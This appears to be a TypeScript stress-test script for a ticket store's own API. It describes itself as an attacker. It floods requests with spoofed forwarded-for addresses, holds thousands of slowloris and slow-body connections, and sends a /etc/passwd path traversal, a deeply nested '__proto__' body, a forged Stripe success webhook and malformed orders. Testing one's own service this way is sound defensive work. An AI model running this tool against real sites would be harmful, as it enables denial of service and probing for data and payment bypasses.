import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

import { addDays, jstDateOf } from '@kippu/domain/jst-date'

/**
 * Attacks a store until it is stopped: `node attacker.ts <origin> <product> <span> <option>`. Everything that one machine can do without
 * knowing anybody's token, from as many addresses as a small botnet has. Once a second it prints what was answered.
 */
const [origin = '', product = '', span = '', option = ''] = process.argv.slice(2)
const { port: storePort } = new URL(origin)

const CONNECTIONS = 10_000
/** New ones a second, until there are so many. */
const CONNECTIONS_A_SECOND = 1_000
const SLOW_BODIES = 300
const ADDRESSES = 64
const counts: Record<string, number> = {}

function count(what: string): void {
  counts[what] = (counts[what] ?? 0) + 1
}

function pick<Item>(items: readonly [Item, ...Item[]]): Item {
  return items[Math.floor(Math.random() * items.length)] ?? items[0]
}
const address = (): string => `203.0.113.${Math.floor(Math.random() * ADDRESSES)}`
const junk = (length: number): string =>
  Array.from({ length }, () => String.fromCodePoint(33 + Math.floor(Math.random() * 20_000))).join('')

interface Shot {
  readonly method?: string
  readonly path: string
  readonly body?: string
  readonly headers?: Record<string, string>
}

const JSON_TYPE = { 'content-type': 'application/json' }
const order = (quantity: unknown): string =>
  JSON.stringify({
    lang: 'ja',
    product_uuid: product,
    time_span_id: Number(span),
    quantity,
    option_values: [{ option_value_id: Number(option), quantity }],
  })

/** The longest range that is answered, beginning on any of sixty days. */
function longSearch(): Shot {
  const from = addDays(jstDateOf(Date.now()), Math.floor(Math.random() * 60))
  const query = new URLSearchParams({ lang: pick(['ja', 'en', 'th']), from, to: addDays(from, 99) })
  return { path: `/api/v1/products/search?${query.toString()}` }
}

/** Requests without sense, and such that would be dear if they were answered without thought. */
const SHOTS: readonly [() => Shot, ...Array<() => Shot>] = [
  () => ({ path: '/api/v1/products/search?lang=ja&from=2026-01-01&to=2036-01-01' }),
  longSearch,
  longSearch,
  () => ({ path: `/api/v1/products/${product}?lang=${encodeURIComponent(junk(20))}` }),
  () => ({ path: `/?lang=${encodeURIComponent(junk(50))}`, headers: { cookie: `lang=${'x'.repeat(3000)}` } }),
  () => ({ path: `/${encodeURIComponent(junk(100))}` }),
  () => ({ path: '/..%2f..%2f..%2fetc/passwd' }),
  () => ({ path: `/api/v1/ordermails/eml_${'A'.repeat(24)}` }),
  () => ({ path: `/api/v1/orders/ord_${'B'.repeat(24)}?lang=ja` }),
  () => ({ path: '/api/v1/reservations?email=a@b.co&reservation_number=ABCDEFGH23' }),
  () => ({
    method: 'POST',
    path: '/api/v1/orders',
    body: order(pick([-1, 1e308, '2', null, 9, 2])),
    headers: JSON_TYPE,
  }),
  () => ({ method: 'POST', path: '/api/v1/orders', body: order(10), headers: JSON_TYPE }),
  () => ({
    method: 'POST',
    path: '/api/v1/orders',
    body: `{"__proto__":${'['.repeat(20_000)}`,
    headers: JSON_TYPE,
  }),
  () => ({ method: 'POST', path: '/api/v1/orders', body: 'x'.repeat(200_000), headers: JSON_TYPE }),
  () => ({
    method: 'POST',
    path: '/payment-webhooks/stripe',
    body: '{"type":"payment_intent.succeeded"}',
    headers: JSON_TYPE,
  }),
  () => ({
    method: 'POST',
    path: '/csp-reports',
    body: '{"csp-report":{}}',
    headers: { 'content-type': 'application/csp-report' },
  }),
  () => ({
    method: 'POST',
    path: '/api/v1/membership/login/1',
    body: JSON.stringify({ email: 'a@b.co', password: junk(30) }),
    headers: JSON_TYPE,
  }),
  () => ({ path: '/', headers: { 'accept-language': junk(500).replaceAll(/[^!-~]/g, '') } }),
  () => ({ method: 'DELETE', path: `/api/v1/orders/ord_${'C'.repeat(24)}` }),
]

/** One after the other, as fast as answers come, each from another address. */
async function shoot(): Promise<never> {
  for (;;) {
    const { path, method = 'GET', headers, ...body } = pick(SHOTS)()
    const answer = await fetch(`${origin}${path}`, {
      method,
      ...body,
      headers: { ...headers, 'x-forwarded-for': address() },
      redirect: 'manual',
    }).catch((error: unknown) => error)
    if (answer instanceof Response) {
      await answer.arrayBuffer().catch(() => undefined)
      count(String(answer.status))
    } else count('no answer')
    await delay(PAUSE_MS)
  }
}

const SHOOTERS = 16
const PAUSE_MS = 60

/** A connection that begins a request and never ends it; a new one when the store hangs up. */
function linger(first: string, drip: string): void {
  const socket: Socket = connect({
    host: '127.0.0.1',
    port: Number(storePort),
    localAddress: `127.0.1.${1 + Math.floor(Math.random() * 250)}`,
  })
  socket.on('connect', () => socket.write(first))
  const timer = drip === '' ? undefined : setInterval(() => socket.write(drip), 3_000)
  socket.on('error', () => count('connection failed'))
  socket.on('close', () => {
    count('hung up')
    clearInterval(timer)
    setTimeout(() => linger(first, drip), 1_000)
  })
  socket.resume()
}

const host = new URL(origin).host
const HALF_HEADER = `GET / HTTP/1.1\r\nHost: ${host}\r\nX-A: `
const SLOW_BODY = `POST /api/v1/orders HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n`

for (let shooter = 0; shooter < SHOOTERS; shooter += 1) void shoot()
for (let slow = 0; slow < SLOW_BODIES; slow += 1) linger(SLOW_BODY, '{')
setInterval(() => {
  process.stdout.write(`${JSON.stringify(counts)}\n`)
  for (const name of Object.keys(counts)) counts[name] = 0
}, 1_000)
for (let opened = 0; opened < CONNECTIONS; opened += CONNECTIONS_A_SECOND) {
  for (let more = 0; more < CONNECTIONS_A_SECOND; more += 1) linger(HALF_HEADER, '')
  await delay(1_000)
}
